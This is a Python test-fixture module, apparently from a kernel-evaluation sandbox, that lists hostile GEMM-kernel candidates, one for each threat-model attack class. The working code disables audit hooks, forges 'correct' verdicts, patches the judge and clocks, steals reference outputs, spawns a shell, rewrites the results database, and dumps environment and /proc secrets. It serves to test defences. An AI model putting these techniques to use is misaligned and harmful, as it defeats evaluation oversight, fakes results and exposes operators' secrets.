@@ -1,0 +1,270 @@
+"""Hostile candidates, one per attack class of docs/verification.md ("Threat model"), all for
+workload 8p (GEMM: A [256,512] @ B [512,256] at CPU_CONFIG). Each is what a kernel module that
+wants a `correct` it has not earned, or a way out of its evaluation, really does; none is
+tailored to the implementation it is tested against beyond what a reader of the docs knows.
+
+Where an attack needs something from the test (a host path, a port, a secret), the kernel is a
+function of it. Attacks that report what they found print it: the candidate's stdout comes back
+in the result, where the test looks for leaks.
+"""
+from sidecar_kernels import CORRECT
+
+# A Pallas kernel that writes zeros: wrong unless the attack worked.
+ZEROS = '''
+import jax
+import jax.numpy as jnp
+from jax.experimental import pallas as pl
+
+def _zeros(a_ref, b_ref, o_ref):
+    o_ref[...] = jnp.zeros_like(o_ref)
+
+def workload(A, B):
+    return pl.pallas_call(_zeros, out_shape=jax.ShapeDtypeStruct((A.shape[0], B.shape[1]),
+                                                                 A.dtype))(A, B)
+'''
+
+# Reaches the standard library behind lint's back (the audit hook still names the rule).
+_BYPASS = '''
+import glob as _g
+_os = getattr(_g, "o" + "s")
+_imp = vars(_os.sys.modules["builtins"])["__imp" + "ort__"]
+_open = vars(_os.sys.modules["builtins"])["op" + "en"]
+'''
+
+# Switches the in-process audit hook off the way a candidate that read the docs would: find
+# its state dict through gc. Afterwards only the OS sandbox stands.
+_NO_HOOK = _BYPASS + '''
+_gc = _imp("gc")
+for _o in _gc.get_objects():
+    if isinstance(_o, dict) and {"installed", "active", "violations"} <= set(_o):
+        _o["active"] = 0
+        _o["violations"] = []
+'''
+
+# 1. Forge the verdict: write a complete `correct` result to every fd it can, then leave.
+FORGED_RESULT = ZEROS + _BYPASS + '''
+_msgpack = _imp("msgpack")
+_forged = {"type": "result", "version": 1, "ok": True, "stage": "numerics",
+           "stage_ms": {"import": 1.0}, "stdout": "", "stderr": "",
+           "artifacts": {"full": b"forged", "reduced": b"forged"},
+           "check": {"outputs": [], "error": None, "violations": []},
+           "verdict": "correct", "kernel_ms": 0.001, "baseline_ms": 2.6}
+for _fd in range(3, 64):
+    try:
+        _os.write(_fd, _msgpack.packb(_forged, use_bin_type=True))
+    except OSError:
+        pass
+_os._exit(0)
+'''
+
+# 2. Patch the judge: its comparison (found through gc and stack frames) and numpy's
+#    primitives, then return zeros; the patches would also hit every later candidate.
+PATCHES_THE_JUDGE = ZEROS + _NO_HOOK + '''
+_np = _imp("numpy")
+_sys = _os.sys
+for _o in _gc.get_objects():
+    try:
+        if hasattr(_o, "_compare"):
+            _o._compare = staticmethod(lambda *a, **k: None)
+    except Exception:
+        pass
+_f = _sys._getframe()
+while _f is not None:
+    _f.f_globals.pop("_compare", None)
+    _f = _f.f_back
+_np.abs = lambda x, *a, **k: _np.zeros_like(_np.asarray(x, _np.float32))
+_np.isnan = lambda x, *a, **k: _np.zeros(_np.shape(x), bool)
+_np.linalg.norm = lambda *a, **k: 0.0
+_np.allclose = lambda *a, **k: True
+'''
+
+# 3. Steal the references: search every live object and frame for an array of the output's
+#    shape and return it through a Pallas copy.
+STEALS_THE_REFERENCE = _NO_HOOK + '''
+import jax
+import jax.numpy as jnp
+from jax.experimental import pallas as pl
+_np = _imp("numpy")
+_stolen = []
+for _o in _gc.get_objects():
+    try:
+        if getattr(_o, "shape", None) == (256, 256):
+            _stolen.append(_np.asarray(_o))
+    except Exception:
+        pass
+print("stolen", len(_stolen))
+
+def _copy(x_ref, o_ref):
+    o_ref[...] = x_ref[...]
+
+def workload(A, B):
+    shape = (A.shape[0], B.shape[1])
+    found = [s for s in _stolen if s.shape == shape]
+    found = jnp.asarray(found[0], A.dtype) if found else jnp.zeros(shape, A.dtype)
+    return pl.pallas_call(_copy, out_shape=jax.ShapeDtypeStruct(shape, A.dtype))(found)
+'''
+
+# 4. Forge the timing: make every clock in the process run 1000x slower, then be correct.
+PATCHES_THE_CLOCK = CORRECT + _NO_HOOK + '''
+_time = _imp("time")
+_real = _time.perf_counter
+_time.perf_counter = lambda: _real() / 1000.0
+_time.monotonic = lambda: _real() / 1000.0
+_time.time = lambda: _real() / 1000.0
+'''
+
+# 5. A root shell through the one process-creation path without an audit event.
+def fork_exec(marker_path):
+    return ZEROS + _BYPASS + f'''
+_ps = _imp("_posixsubprocess")
+_args = ["/bin/sh", "-c", "echo escaped > {marker_path}"]
+try:
+    _ps.fork_exec(_args, [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1,
+                  *(_os.pipe()), False, False, -1, None, None, None, -1, None, False)
+except Exception as _e:
+    print("fork_exec refused:", _e)
+'''
+
+
+# 6. The same after switching the audit hook off, with os.fork (a child that would linger).
+FORK_WITHOUT_THE_HOOK = ZEROS + _NO_HOOK + '''
+_pid = _os.fork()
+if _pid == 0:
+    _imp("time").sleep(600)
+'''
+
+
+# 7. Rewrite the run database with sqlite3, found through the agent's command line.
+def rewrites_the_database(db_path):
+    return ZEROS + _NO_HOOK + f'''
+_sqlite3 = _imp("sqlite3")
+_found = []
+for _pid in _os.listdir("/proc"):
+    try:
+        with _open(f"/proc/{{_pid}}/cmdline", "rb") as _h:
+            _found += [a.decode() for a in _h.read().split(b"\\0") if a.endswith(b".db")]
+    except OSError:
+        pass
+print("databases found:", _found)
+for _path in _found + [{db_path!r}]:
+    try:
+        _db = _sqlite3.connect(_path)
+        _db.execute("UPDATE evaluations SET verdict = 'correct'")
+        _db.commit()
+        print("rewrote", _path)
+    except Exception as _e:
+        print("could not rewrite", _path, _e)
+'''
+
+
+# 8. Reach the network: the agent's loopback, after switching the hook off.
+def connects(port):
+    return ZEROS + _NO_HOOK + f'''
+_socket = _imp("socket")
+_s = _socket.create_connection(("127.0.0.1", {port}), timeout=2)
+_s.sendall(b"escaped")
+'''
+
+
+# 9. Read the agent's secrets: the environment, every /proc/<pid>/environ and cmdline.
+READS_SECRETS = ZEROS + _NO_HOOK + '''
+print("ENV", dict(_os.environ))
+for _pid in _os.listdir("/proc"):
+    for _name in ("environ", "cmdline"):
+        try:
+            with _open(f"/proc/{_pid}/{_name}", "rb") as _h:
+                print("PROC", _pid, _name, _h.read().replace(b"\\0", b" ").decode("latin-1"))
+        except OSError as _e:
+            print("PROC", _pid, _name, "unreadable", _e.errno)
+'''
+
+
+# 10. Outlive the evaluation: a thread that keeps running after the result.
+OUTLIVES_ITS_EVALUATION = CORRECT + _NO_HOOK + '''
+def _linger():
+    while True:
+        pass
+_imp("threading").Thread(target=_linger, daemon=True).start()
+'''
+
+
+# 11. Write outside: a file on the host, with the hook off.
+def writes_outside(path):
+    return ZEROS + _NO_HOOK + f'''
+_np = _imp("numpy")
+try:
+    _np.save({path!r}, _np.zeros(3))
+except Exception as _e:
+    print("write refused:", _e)
+'''
+
+
+# 12. Import the workload module itself and return its baseline (lint sees the plain import;
+#     the bypass is refused by the sandbox, which has no such module).
+IMPORTS_THE_WORKLOAD = '''
+from workloads import wl_8p
+
+def workload(A, B):
+    return wl_8p.workload(A, B)
+'''
+IMPORTS_THE_WORKLOAD_PAST_LINT = _BYPASS + '''
+_wl = _imp("workloads.wl_8p", fromlist=["workload"])
+workload = _wl.workload
+'''
+
+# 13. Pallas for show: XLA does the GEMM, a token kernel copies the result.
+XLA_BESIDE_A_COPY_KERNEL = '''
+import jax
+import jax.numpy as jnp
+from jax.experimental import pallas as pl
+
+def _copy(x_ref, o_ref):
+    o_ref[...] = x_ref[...]
+
+def workload(A, B):
+    c = jnp.matmul(A, B)
+    return pl.pallas_call(_copy, out_shape=jax.ShapeDtypeStruct(c.shape, c.dtype))(c)
+'''
+# ...or a kernel whose result is never used.
+UNUSED_KERNEL = '''
+import jax
+import jax.numpy as jnp
+from jax.experimental import pallas as pl
+
+def _copy(x_ref, o_ref):
+    o_ref[...] = x_ref[...]
+
+def workload(A, B):
+    pl.pallas_call(_copy, out_shape=jax.ShapeDtypeStruct(A.shape, A.dtype))(A)
+    return jnp.matmul(A, B)
+'''
+# ...or one kept alive by adding zero times its result.
+KERNEL_TIMES_ZERO = '''
+import jax
+import jax.numpy as jnp
+from jax.experimental import pallas as pl
+
+def _copy(x_ref, o_ref):
+    o_ref[...] = x_ref[...]
+
+def workload(A, B):
+    token = pl.pallas_call(_copy, out_shape=jax.ShapeDtypeStruct(A.shape, A.dtype))(A)
+    return jnp.matmul(A, B) + 0 * token.sum().astype(A.dtype)
+'''
+
+# 14. Attack the parent and the spares: read their memory and fds, signal them.
+READS_ITS_PARENT = ZEROS + _NO_HOOK + '''
+for _what in ("mem", "environ", "fd"):
+    try:
+        _path = f"/proc/{_os.getppid()}/{_what}"
+        if _what == "fd":
+            print("parent fds", _os.listdir(_path))
+        else:
+            with _open(_path, "rb") as _h:
+                print("read parent", _what, len(_h.read(16)))
+    except OSError as _e:
+        print("parent", _what, "unreadable", _e.errno)
+'''
+SIGNALS_ITS_PARENT = ZEROS + _NO_HOOK + '''
+_os.kill(_os.getppid(), 9)
+'''
